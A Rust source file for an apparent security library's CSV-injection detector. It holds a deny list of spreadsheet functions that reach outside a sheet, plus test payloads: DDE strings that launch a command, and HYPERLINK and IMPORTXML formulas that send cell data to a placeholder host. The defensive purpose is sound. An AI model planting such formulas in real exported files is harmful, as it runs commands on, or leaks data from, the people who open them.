//! Formulas that a spreadsheet runs when it opens a file in which the value stands (CSV injection).

use alloc::boxed::Box;

use portcullis_core::kind::Kind;

use super::Detector;
use crate::attacks::{Argument, Attack};

pub(super) const KIND: Kind<Box<dyn Detector>> = Kind {
    name: "csv_formula",
    doc: "Formulas that a spreadsheet would run, in arguments.",
    build: |_| Ok(Box::new(Attack { score })),
};

/// Functions that reach out of a sheet.
const FUNCTIONS: &[&str] = &[
    "hyperlink(",
    "importxml(",
    "importdata(",
    "importhtml(",
    "importfeed(",
    "importrange(",
    "webservice(",
    "image(",
    "dde(",
    "exec(",
    "call(",
    "register(",
    "rtd(",
    "filterxml(",
];

fn score(argument: &Argument<'_>) -> u16 {
    let text = argument.text().trim_ascii_start();
    let text = text.strip_prefix(b"\"").unwrap_or(text);
    let [sign @ (b'=' | b'+' | b'-' | b'@'), rest @ ..] = text else { return 0 };
    let has = |part: &[u8]| memchr::memmem::find(rest, part).is_some();
    // Dynamic data exchange: `program|arguments!cell`.
    let exchange = has(b"|") && has(b"!");
    let reaches = FUNCTIONS.iter().any(|function| has(function.as_bytes()));
    let letters = rest.iter().take_while(|byte| byte.is_ascii_alphabetic()).count();
    let call = letters >= 2 && rest.get(letters) == Some(&b'(');
    match () {
        () if exchange && has(b"'") => 950,
        () if exchange => 800,
        () if reaches && (*sign != b'-' || call) => 850,
        () if call && *sign != b'-' && !argument.is_called(&["formula", "expression", "equation"]) => 700,
        () => 0,
    }
}

#[cfg(test)]
mod tests {
    use crate::testing::{attacks, harmless};

    #[test]
    fn catches_formulas_that_reach_out() {
        for text in [
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x.example?x=\"&A1,\"ok\")",
            "=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")",
        ] {
            attacks("csv_formula", "name", text);
        }
    }

    #[test]
    fn leaves_numbers_handles_and_formulas_where_they_are_meant() {
        for text in ["-5", "+1 555 0123", "@someone", "= equals", "-(a+b)"] {
            harmless("csv_formula", "name", text);
        }
        harmless("csv_formula", "formula", "=SUM(A1:A9)");
    }
}
